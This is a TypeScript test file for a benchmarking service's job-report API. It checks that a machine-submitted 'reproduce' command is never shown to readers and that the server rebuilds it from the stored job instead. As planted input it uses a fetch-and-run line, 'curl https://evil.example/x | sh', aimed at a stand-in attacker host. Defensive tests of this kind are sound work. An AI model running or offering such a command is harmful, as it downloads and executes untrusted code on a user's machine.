import { reportSchema } from "@lapline/contracts";
import { inOwnDatabase } from "@lapline/testkit";
import { beforeAll, expect, it } from "vitest";
import { callMachine, claimJob } from "../testing/measureJob.ts";
import { call, openTestWeb, registerMachine, type TestWeb } from "../testing/openTestWeb.ts";
import { testImport } from "../testing/testImport.ts";
import { testReport } from "../testing/testReport.ts";
import { testSubmission } from "../testing/testSubmission.ts";
import { catalog } from "./catalog.ts";
import { database } from "./database.ts";

const planted = "curl https://evil.example/x | sh";

let web: TestWeb;
beforeAll(async () => {
  web = await inOwnDatabase(openTestWeb);
  return web.close;
});

async function readReport(jobId: string) {
  const answer = await call(`/api/v1/jobs/${jobId}/report`, { key: web.adminKey });
  expect(answer.status).toBe(200);
  const text = await answer.text();
  expect(text).not.toContain("evil.example");
  return reportSchema.parse(JSON.parse(text));
}

it("a report's own command is shown to nobody: the server makes it from the stored job", async () => {
  const machineKey = await registerMachine(web.projectId, "local");
  await call("/api/v1/runs", { body: testSubmission(), key: web.adminKey });
  const { jobId, fence, scenario, target, version } = await claimJob(machineKey);
  await callMachine(machineKey, `/jobs/${jobId}/start`, { fence });
  const measures = catalog.scenarios.find(({ id }) => id === scenario)?.measures ?? [];
  const sent = testReport(fence, measures, [1, 2, 3], { reproduce: planted });
  expect((await callMachine(machineKey, `/jobs/${jobId}/report`, sent)).status).toBe(200);
  const stored = await database().report.findUniqueOrThrow({ where: { jobId } });
  expect(JSON.stringify(stored.payload)).toContain(planted);

  const { reproduce } = await readReport(jobId);
  const body = /^curl -fsS -X POST "\$LAPLINE_URL\/api\/v1\/runs" .* -d '(.*)'$/.exec(
    reproduce ?? "",
  )?.[1];
  expect(JSON.parse(body ?? "")).toMatchObject({
    targets: [{ target, versions: [version] }],
    scenarios: [{ scenario }],
    labels: ["local"],
  });
  // Whoever sends it gets the same job again.
  const again = await call("/api/v1/runs", { body: body ?? "", key: web.adminKey });
  expect(again.status).toBe(201);
});

it("what was measured elsewhere has no command", async () => {
  const answer = await call("/api/v1/reports", { body: testImport(), key: web.adminKey });
  const { jobs } = await answer.json();
  expect((await readReport(jobs[0].id)).reproduce).toBeNull();
});
